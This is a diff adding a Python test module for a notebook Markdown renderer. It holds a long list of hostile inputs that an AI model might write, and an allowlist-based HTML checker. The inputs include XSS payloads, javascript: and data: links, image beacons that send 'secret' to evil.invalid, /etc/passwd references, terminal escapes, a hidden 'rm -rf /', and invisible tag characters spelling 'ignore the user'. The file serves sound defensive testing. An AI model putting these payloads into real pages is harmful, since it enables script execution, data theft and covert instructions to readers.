@@ -1,0 +1,299 @@
+"""Texts that a hostile or careless model may write, and a judge of the HTML that comes of them.
+
+One list, so that the renderer's own tests and the browser tests judge the same texts. `MARK` is the
+host of everything that would call out, `FLAG` the word that would be set by code that ran.
+"""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+from urllib.parse import urlsplit
+
+MARK = "evil.invalid"
+FLAG = "allosHostileRan"
+
+_JS = f"window.{FLAG}=1"
+_URL = f"https://{MARK}"
+
+HOSTILE: list[tuple[str, str]] = [
+    # elements that run
+    ("script", f"<script>{_JS}</script>"),
+    ("script_src", f'<script src="{_URL}/x.js"></script>'),
+    ("script_type_module", f'<script type="module">import "{_URL}/x.js"</script>'),
+    ("script_upper_split", f"<ScRiPt\n>{_JS}</sCrIpT >"),
+    ("script_in_fence_then_out", f"```\n</code></pre><script>{_JS}</script>\n```"),
+    ("script_in_code_span", f"`</code><script>{_JS}</script>`"),
+    ("script_in_indented_code", f"    </code></pre><script>{_JS}</script>"),
+    ("script_in_heading", f"# <script>{_JS}</script>"),
+    ("script_in_table", f"| a |\n|---|\n| <script>{_JS}</script> |"),
+    (
+        "script_entities",
+        f"&lt;script&gt;{_JS}&lt;/script&gt; &#60;script&#62;{_JS}&#60;/script&#62;",
+    ),
+    ("script_in_comment", f"<!-- --><script>{_JS}</script><!-- -->"),
+    ("script_conditional_comment", f"<!--[if gte IE 4]><script>{_JS}</script><![endif]-->"),
+    ("script_cdata", f"<![CDATA[<script>{_JS}</script>]]>"),
+    ("script_processing", f"<?php <script>{_JS}</script> ?>"),
+    ("script_nested_tags", f"<scr<script>ipt>{_JS}</scr</script>ipt>"),
+    ("script_noscript", f'<noscript><p title="</noscript><img src=x onerror={_JS}>"></noscript>'),
+    ("script_template", f"<template><script>{_JS}</script></template>"),
+    # handlers
+    ("img_onerror", f"<img src=x onerror={_JS}>"),
+    ("img_onerror_slash", f"<img/src=x/onerror={_JS}>"),
+    ("svg_onload", f"<svg onload={_JS}></svg>"),
+    ("body_onload", f"<body onload={_JS}>"),
+    ("details_ontoggle", f"<details open ontoggle={_JS}>x</details>"),
+    ("input_autofocus", f"<input autofocus onfocus={_JS}>"),
+    ("marquee_onstart", f"<marquee onstart={_JS}>x</marquee>"),
+    ("style_animation", f"<b style='animation:x 1s' onanimationstart={_JS}>x</b>"),
+    ("video_onerror", f"<video><source onerror={_JS}></video>"),
+    ("unclosed_tag", f"<img src=x onerror={_JS} "),
+    ("handler_in_list", f"- a\n- <b onmouseover={_JS}>x</b>\n"),
+    # links that run
+    ("link_javascript", f"[x](javascript:{_JS})"),
+    ("link_javascript_case", f"[x](JaVaScRiPt:{_JS})"),
+    ("link_javascript_entity", f"[x](&#106;avascript:{_JS}) [y](javascript&colon;{_JS})"),
+    ("link_javascript_entity_tab", f"[x](java&Tab;script:{_JS}) [y](java&#9;script:{_JS})"),
+    ("link_javascript_entity_newline", f"[x](java&NewLine;script:{_JS})"),
+    ("link_javascript_angle_tab", f"[x](<java\tscript:{_JS}>)"),
+    ("link_javascript_angle_space", f"[x](< javascript:{_JS}>)"),
+    ("link_javascript_control", f"[x](\x01javascript:{_JS}) [y](java\x00script:{_JS})"),
+    ("link_javascript_invisible", f"[x](java\u200bscript:{_JS}) [y](\ufeffjavascript:{_JS})"),
+    ("link_javascript_escape", f"[x](javascript\\:{_JS})"),
+    ("link_javascript_percent", f"[x](%6aavascript:{_JS}) [y](javascript%3A{_JS})"),
+    ("link_javascript_double_entity", f"[x](&amp;#106;avascript:{_JS})"),
+    ("link_javascript_fullwidth", f"[x](ｊavascript:{_JS}) [y](javascript：{_JS})"),
+    ("link_vbscript", "[x](vbscript:msgbox(1))"),
+    ("link_data_html", f"[x](data:text/html,<script>{_JS}</script>)"),
+    ("link_data_base64", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
+    ("link_data_image", "[x](data:image/png;base64,iVBORw0KGgo=)"),
+    ("link_data_svg", f"[x](data:image/svg+xml,<svg onload={_JS}>)"),
+    ("link_blob_file", "[x](blob:https://a/b) [y](file:///etc/passwd) [z](filesystem:http://a/b)"),
+    ("link_reference", f"[x][r]\n\n[r]: javascript:{_JS}"),
+    ("link_reference_entity", f"[x][r]\n\n[r]: jav&#x09;ascript:{_JS}"),
+    ("link_reference_data", f'[x]\n\n[x]: data:text/html,<script>{_JS}</script> "t"'),
+    ("autolink_javascript", f"<javascript:{_JS}>"),
+    ("autolink_data", f"<data:text/html,{_JS}>"),
+    ("autolink_mail_quotes", f'<a"onclick={_JS}@{MARK}>'),
+    ("link_break_out_href", f'[x](https://{MARK}/"onmouseover="{_JS}) [y](<{_URL}/"><img src=x>)'),
+    ("link_break_out_title", f"[x]({_URL} '\"onmouseover=\"{_JS}')"),
+    ("link_break_out_text", f'[<img src=x onerror={_JS}>]({_URL} "x")'),
+    ("link_view_source", "[x](view-source:https://a.invalid) [y](ms-word:ofe|u|x) [z](tel:1)"),
+    # links into the notebook's own server
+    ("link_relative", "[x](/api/contents) [y](tree) [z](../lab?reset) [w](?token) [v](#top)"),
+    ("link_protocol_relative", f"[x](//{MARK}/a) [y](\\\\{MARK}\\a) [z](/\\{MARK})"),
+    ("link_scheme_relative", "[x](http:api/kernels) [y](https:/lab) [z](http:///lab)"),
+    ("link_attachment", "[x](attachment:a.png) ![y](attachment:a.png)"),
+    ("link_userinfo", f"[x](https://jupyter.org@{MARK}/) [y](https://a:b@{MARK})"),
+    ("link_backslash_host", f"[x](https://jupyter.org\\@{MARK}) [y](https:\\\\{MARK})"),
+    ("link_other_host", f"[https://jupyter.org]({_URL}/login) [`jupyter.org`]({_URL})"),
+    ("link_bidi", f"[x](https://\u202e{MARK}/) [\u202ex]({_URL}/\u202e)"),
+    ("link_command", "[x](command:workbench.action.terminal.new) [y](vscode://file/etc/passwd)"),
+    ("mailto_header", f"<a@{MARK}> [x](mailto:a@{MARK}?bcc=b@{MARK}&body=secret)"),
+    # everything that loads
+    ("image", f"![alt]({_URL}/a.png?q=secret)"),
+    ("image_title", f'![alt]({_URL}/a.png "title")'),
+    ("image_reference", f"![alt][r] ![r]\n\n[r]: {_URL}/a.png"),
+    ("image_in_link", f"[![alt]({_URL}/a.png)]({_URL}/b)"),
+    ("image_in_image", f"![a ![b]({_URL}/b.png) c]({_URL}/a.png)"),
+    ("image_in_table", f"| a |\n|---|\n| ![x]({_URL}/a.png) |"),
+    ("image_alt_html", f"![<img src=x onerror={_JS}>]({_URL}/a.png)"),
+    ("image_alt_link", f"![[x](javascript:{_JS})]({_URL}/a.png)"),
+    ("image_data", "![x](data:image/png;base64,iVBORw0KGgo=) ![y](data:image/gif;base64,R0lGOD)"),
+    ("image_relative", "![x](/api/contents) ![y](files/secret.png) ![z](//evil.invalid/a.png)"),
+    ("image_javascript", f"![x](javascript:{_JS})"),
+    (
+        "image_html",
+        f"<img src={_URL}/a.png><image href={_URL}/b.png><picture><source srcset={_URL}>",
+    ),
+    ("media", f"<video src={_URL} poster={_URL}><audio src={_URL} autoplay><track src={_URL}>"),
+    ("frames", f"<iframe src={_URL}></iframe><frame src={_URL}><portal src={_URL}>"),
+    ("iframe_srcdoc", f"<iframe srcdoc='<script>parent.{FLAG}=1</script>'></iframe>"),
+    ("objects", f"<object data={_URL}></object><embed src={_URL}><applet code={_URL}>"),
+    ("link_element", f"<link rel=stylesheet href={_URL}/a.css><link rel=prefetch href={_URL}>"),
+    ("meta_refresh", f'<meta http-equiv="refresh" content="0;url={_URL}">'),
+    ("base", f"<base href={_URL}/>\n\n[x](a)"),
+    ("form", f"<form action={_URL}><input name=q><button>Go</button></form>"),
+    ("button_formaction", f"<button form=x formaction=javascript:{_JS}>x</button>"),
+    ("isindex_dialog", f"<dialog open>sign in<input type=password></dialog><portal src={_URL}>"),
+    ("background", f"<table background={_URL}><td background={_URL}>x</td></table>"),
+    ("ping", f'<a href="https://jupyter.org" ping="{_URL}">x</a>'),
+    # style and page
+    ("style_element", f"<style>@import url({_URL});body{{display:none}}</style>"),
+    ("style_attribute", f"<b style='position:fixed;inset:0;background:url({_URL})'>x</b>"),
+    ("style_expression", f"<b style='width:expression({_JS})'>x</b>"),
+    ("overlay_classes", '<div class="jp-Dialog lm-Widget jp-mod-styled">x</div>'),
+    ("fence_class", "```jp-Dialog lm-mod-hidden\nx\n```"),
+    ("fence_class_break_out", f'```py" onmouseover="{_JS}\nx\n```'),
+    ("fence_tilde_html", f"~~~<img/src=x/onerror={_JS}>\nx\n~~~"),
+    ("fence_mermaid", f'```mermaid\ngraph TD; A["<img src=x onerror={_JS}>"]\n```'),
+    ("fence_vega", f'```vega-lite\n{{"data": {{"url": "{_URL}"}}}}\n```'),
+    ("fence_geojson", f'```geojson\n{{"type": "Point", "x": "{_URL}"}}\n```'),
+    ("fence_math", "```math\n\\href{javascript:alert(1)}{x}\n```"),
+    (
+        "dom_clobbering",
+        "<a id=defaultView name=cookie>x</a><form name=body><img name=getElementById>",
+    ),
+    ("slot_is_part", "<b slot=x is=y part=z contenteditable accesskey=x tabindex=1>x</b>"),
+    ("data_commandlinker", '<b data-commandlinker-command="terminal:create-new">x</b>'),
+    (
+        "data_commandlinker_args",
+        "<button data-commandlinker-command='notebook:run-all-cells' "
+        "data-commandlinker-args='{}'>x</button>",
+    ),
+    (
+        "data_jupyter",
+        '<p data-jp-item-name="x" data-mime-type="text/html" data-lm-dragscroll>x</p>',
+    ),
+    (
+        "attribute_lists",
+        "# x {#id .jp-Dialog onclick=alert(1)}\n\n[x](https://a.invalid){.b style=c}",
+    ),
+    ("front_matter", "---\ntitle: <script>alert(1)</script>\n---\nx"),
+    # svg, mathml, xml
+    ("svg_script", f"<svg><script>{_JS}</script></svg>"),
+    ("svg_use", f'<svg><use href="{_URL}/a.svg#x"/></svg>'),
+    ("svg_animate", f"<svg><a><animate attributeName=href values=javascript:{_JS} /></a></svg>"),
+    ("svg_foreign", f"<svg><foreignObject><img src=x onerror={_JS}></foreignObject></svg>"),
+    ("svg_style_mutation", f"<svg></p><style><a id='</style><img src=x onerror={_JS}>'>"),
+    ("mathml_href", f"<math><a xlink:href=javascript:{_JS}>x</a></math>"),
+    (
+        "mathml_mutation",
+        "<math><mtext><table><mglyph><style><!--</style>"
+        f"<img title='--&gt;&lt;img src=x onerror={_JS}&gt;'>",
+    ),
+    ("xml_entity", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'),
+    ("plaintext_xmp", f"<plaintext><xmp><listing></xmp><script>{_JS}</script>"),
+    ("closing_tags", f"</div></div></pre></body></html><script>{_JS}</script>"),
+    # maths
+    ("math_href", f"$\\href{{javascript:{_JS}}}{{x}}$ and \\(\\href{{{_URL}}}{{y}}\\)"),
+    ("math_include", f"$$\\includegraphics{{{_URL}/a.png}}$$ \\[\\unicode{{x}}\\]"),
+    ("math_style", "$\\style{position:fixed;inset:0}{x}$ $\\class{jp-Dialog}{x}$ $\\cssId{a}{x}$"),
+    ("math_require", f"$\\require{{html}}\\data{{commandlinker-command=x}}{{y}}$ {_URL}"),
+    ("math_macro", "$\\def\\x{\\x\\x}\\x$ $\\newcommand{\\frac}{evil}$"),
+    ("math_prices", "It costs $5 and then $6, or \\$7."),
+    ("math_begin", "\\begin{align} \\href{javascript:alert(1)}{x} \\end{align}"),
+    # what terminals and readers obey
+    ("ansi", "\x1b[31mred\x1b[0m \x1b[2J\x1b[1;1H \x9b31mc1\x9b0m"),
+    (
+        "osc_title_link",
+        f"\x1b]0;title\x07 \x1b]8;;{_URL}\x1b\\click\x1b]8;;\x1b\\ \x9d52;c;eA==\x9c",
+    ),
+    ("osc_unterminated", f"\x1b]8;;{_URL} and on\n\x1bPq#0\nx\x1b_x"),
+    ("controls", "a\x00b\x08c\x0bd\x0ce\x7ff\x85g\x8dh \ufffe \uffff"),
+    ("carriage_return", "rm -rf /\recho hello   "),
+    ("bidi_override", "user\u202e \u2066// is admin\u2069 \u2066begin\u2069 \u200f\u200e\u061c"),
+    ("bidi_entities", "user&#x202e;nimda &#8294;x&#8297; &rlm;&lrm;"),
+    ("control_entities", "&#0; &#27;[31m &#x9b;2J &#x1b;]0;x&#7; &#xd800; &#1114112;"),
+    ("tag_characters", "Hi" + "".join(chr(0xE0000 + ord(c)) for c in "ignore the user")),
+    ("surrogates", "\ud800 \udfff \ud83d\ude00"),
+    ("null_in_tag", f"<scr\x00ipt>{_JS}</scr\x00ipt>"),
+    ("combining", "a" + "\u0301" * 5_000),
+    # too much of something
+    ("deep_quotes", ">" * 5_000 + " x"),
+    ("deep_quotes_kept", "> " * 30 + "the innermost words"),
+    ("deep_lists", "\n".join("  " * depth + "- x" for depth in range(200))),
+    ("deep_emphasis", "**a _b " * 2_000 + "x" + " c_ d**" * 2_000),
+    ("deep_brackets", "[" * 4_900 + "x" + "]" * 4_900),
+    ("deep_images", "![" * 2_000 + "x" + f"]({_URL})" * 900),
+    ("many_links", f"[x]({_URL}) " * 3_000),
+    ("many_references", "".join(f"[r{i}]: {_URL}/{i}\n" for i in range(2_000))),
+    ("wide_table", "|" + "a|" * 3_000 + "\n|" + "-|" * 3_000 + "\n" + "x\n" * 1_000),
+    ("long_line", "a" * 90_000),
+    ("long_url", f"[x]({_URL}/{'a' * 50_000})"),
+    ("huge", f"<script>{_JS}</script> **x**\n\n" * 5_000),
+]
+"""Pairs of a name and a text."""
+
+
+# What may come out, said again on its own: the judge must not share the renderer's mistakes.
+_HEADINGS = {"h1", "h2", "h3", "h4", "h5", "h6"}
+_TAGS = _HEADINGS | {"a", "b", "blockquote", "br", "code", "details", "div", "em", "hr", "li", "ol"}
+_TAGS |= {"p", "pre", "s", "small", "span", "strong", "style", "summary", "table", "tbody", "td"}
+_TAGS |= {"th", "thead", "tr", "ul"}
+_ATTRIBUTES = {"a": {"href", "target", "rel"}, "ol": {"start"}}
+_CLASS = re.compile(r"allos-[a-z]+|mathjax_ignore|tex2jax_ignore|jp-toc-ignore")
+_HIDDEN = re.compile(
+    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
+)
+_VOID = {"br", "hr"}
+
+
+class _Judge(HTMLParser):
+    def __init__(self, styles: frozenset[str]) -> None:
+        super().__init__(convert_charrefs=True)
+        self.faults: list[str] = []
+        self.text: list[str] = []
+        self.open: list[str] = []
+        self.styles = styles
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag not in _TAGS:
+            self.faults.append(f"element {tag}")
+        if tag == "a" and "a" in self.open:
+            self.faults.append("a link inside a link")
+        if tag not in _VOID:
+            self.open.append(tag)
+        for name, value in attrs:
+            self._attribute(tag, name, value or "")
+
+    def _attribute(self, tag: str, name: str, value: str) -> None:
+        if name == "class":
+            bad = [word for word in value.split() if not _CLASS.fullmatch(word)]
+            self.faults.extend(f"class {word}" for word in bad)
+        elif name not in _ATTRIBUTES.get(tag, set()):
+            self.faults.append(f"attribute {name} of {tag}")
+        elif name == "start" and not re.fullmatch(r"[0-9]{1,9}", value):
+            self.faults.append(f"start {value}")
+        elif name == "target" and value != "_blank":
+            self.faults.append(f"target {value}")
+        elif name == "rel" and value != "noopener noreferrer":
+            self.faults.append(f"rel {value}")
+        elif name == "href" and not self._is_safe(value):
+            self.faults.append(f"href {value}")
+
+    @staticmethod
+    def _is_safe(url: str) -> bool:
+        if not re.fullmatch(r"[!-~]+", url):
+            return False
+        parts = urlsplit(url)
+        if parts.scheme == "mailto":
+            return "@" in parts.path
+        return (
+            parts.scheme in {"http", "https"} and bool(parts.hostname) and "@" not in parts.netloc
+        )
+
+    def handle_endtag(self, tag: str) -> None:
+        if not self.open or self.open.pop() != tag:
+            self.faults.append(f"unbalanced {tag}")
+
+    def handle_data(self, data: str) -> None:
+        if self.open and self.open[-1] == "style":
+            if data not in self.styles:
+                self.faults.append("a foreign style sheet")
+            return
+        self.text.append(data)
+        if hidden := _HIDDEN.search(data):
+            self.faults.append(f"character U+{ord(hidden[0]):04X}")
+
+    def handle_comment(self, data: str) -> None:
+        self.faults.append("a comment")
+
+    def handle_decl(self, decl: str) -> None:
+        self.faults.append("a declaration")
+
+    def handle_pi(self, data: str) -> None:
+        self.faults.append("a processing instruction")
+
+
+def judge(html: str, *, styles: frozenset[str] = frozenset()) -> tuple[list[str], str]:
+    """Everything in the HTML that must not be there, and the text that a reader sees.
+
+    `styles` are the texts of the style sheets that are allowed, ours.
+    """
+    parser = _Judge(styles)
+    parser.feed(html)
+    parser.close()
+    left = [f"unclosed {tag}" for tag in parser.open]
+    return parser.faults + left, "".join(parser.text)
